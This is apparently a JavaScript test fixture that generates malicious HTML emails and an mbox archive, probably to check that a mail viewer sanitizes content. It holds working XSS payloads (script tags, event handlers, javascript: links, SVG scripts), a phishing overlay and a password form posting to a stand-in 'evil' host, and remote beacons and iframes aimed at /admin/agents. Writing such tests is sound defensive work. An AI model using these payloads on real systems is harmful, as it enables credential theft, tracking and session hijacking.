// Mails that mean harm. Each tries one thing, and has words beside it that are to be read all the same.

/** Covers the whole window, if anything lets it. */
const COVER =
  'position:fixed;position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;' +
  'margin:-5000px;z-index:2147483647;background:#c00'

const cells = Array.from(
  { length: 200 },
  (_, row) =>
    `<tr>${Array.from({ length: 100 }, (_, at) => `<td>${row}.${at}</td>`).join('')}</tr>`,
).join('')

/** `evil` is where they call out to. */
export const attacks = (evil) => ({
  scripts: `<script>parent.stolen=1;alert(1)</script><script src="${evil}/a.js"></script>`,
  handlers: `<img src=x onerror="parent.stolen=1;alert(1)"><body onload="alert(1)">
    <div onmouseover="alert(1)" onfocus="alert(1)" autofocus tabindex=0 style="width:600px;height:200px">over</div>`,
  links: `<a href="javascript:parent.stolen=1;alert(1)">harmless link</a>
    <a href="data:text/html,<script>alert(1)</script>">another</a>`,
  overlay: `<style>*{${COVER.replaceAll(';', '!important;')}!important}</style>
    <div style="${COVER}">red</div><a href="${evil}/sign-in" style="${COVER}">Sign in again</a>`,
  fonts: `<style>@import url(${evil}/a.css);@font-face{font-family:x;src:url(${evil}/f.woff2)}
    body{font-family:x;background:url(${evil}/bg.png);cursor:url(${evil}/c.cur),auto}</style>
    <link rel=stylesheet href="${evil}/b.css"><link rel=prefetch href="${evil}/p">
    <link rel=dns-prefetch href="//evil.example"><p style="background-image:url(${evil}/i.png);
    list-style:url('${evil}/l.png');content:url(${evil}/k.png)">with a background</p>`,
  forms: `<form action="${evil}/form" method=post target=_top><input name=password autofocus>
    <input type=submit formaction="${evil}/other" value="Go on"><button>Go on</button></form>
    <isindex action="${evil}/index"><textarea autofocus></textarea><select autofocus><option>1</select>`,
  base: `<base href="${evil}/" target=_top><a href="relative">relative</a><img src="relative.png">`,
  drawings: `<svg onload="alert(1)" width=2000 height=2000><script>alert(1)</script>
    <foreignObject width=2000 height=2000><iframe src="${evil}/frame"></iframe><body onload="alert(1)">
    </foreignObject><image href="${evil}/svg.png"/><use href="${evil}/u.svg#x"/>
    <a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>
    <math><maction actiontype=statusline xlink:href="javascript:alert(1)">m</maction></math>`,
  refresh: `<meta http-equiv=refresh content="0;url=${evil}/away">
    <meta http-equiv=refresh content="1;url=/admin/agents">
    <meta http-equiv="Set-Cookie" content="x=1"><meta http-equiv="Content-Security-Policy" content="">`,
  frames: `<iframe src="${evil}/frame" style="${COVER}"></iframe><iframe srcdoc="<script>alert(1)</script>">
    </iframe><iframe src="/admin/agents"></iframe><object data="${evil}/o.swf"><param name=x></object>
    <embed src="${evil}/e.swf"><applet code=x codebase="${evil}"></applet><portal src="${evil}/portal">
    </portal><frameset><frame src="${evil}/f"></frameset>`,
  media: `<video src="${evil}/v.mp4" autoplay poster="${evil}/poster.png"></video><audio src="${evil}/a.mp3"
    autoplay></audio><picture><source srcset="${evil}/s.png"><img></picture><bgsound src="${evil}/b.mid">
    <input type=image src="${evil}/in.png"><track src="${evil}/t.vtt"><body background="${evil}/body.png">`,
  top: `<a href="${evil}/top" target=_top ping="${evil}/ping" rel=opener>Your parcel</a>
    <area href="${evil}/area" target=_parent><a href="/admin/agents" target=_self>relative</a>`,
  pictures: `<img src="${evil}/1.png" width=100000 height=100000><img src="${evil}/2.png"
    srcset="${evil}/3.png 2x" loading=eager><table background="${evil}/4.png"><tr><td>cell</table>`,
  giant: `<div style="width:100000px;height:100000px;background-color:#c00">wide and high</div>
    <p style="margin-left:100000px">far away</p><font style="font-size:90000px">W</font>`,
  table: `<table border=1>${cells}</table>`,
})

/** What is read beside the attack. */
export const plainWords = (name) => `Plain words beside ${name}.`

const wrapped = (text) => text.replace(/.{76}/g, '$&\n')

export function mailOf(name, html) {
  const page = `<html><body><p>${plainWords(name)}</p>${html}<p>The end of ${name}.</p></body></html>`
  return [
    `From: Mallory <${name}@evil.example>`,
    'To: support@example.com',
    `Subject: Attack by ${name}`,
    `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${name}@evil.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: base64',
    '',
    wrapped(Buffer.from(page).toString('base64')),
    '',
  ].join('\n')
}

/** An archive of such mails. */
export const mboxOf = (all) =>
  Object.entries(all)
    .map(
      ([name, html]) => `From mallory@evil.example Tue Feb  3 10:00:00 2026\n${mailOf(name, html)}`,
    )
    .join('\n')
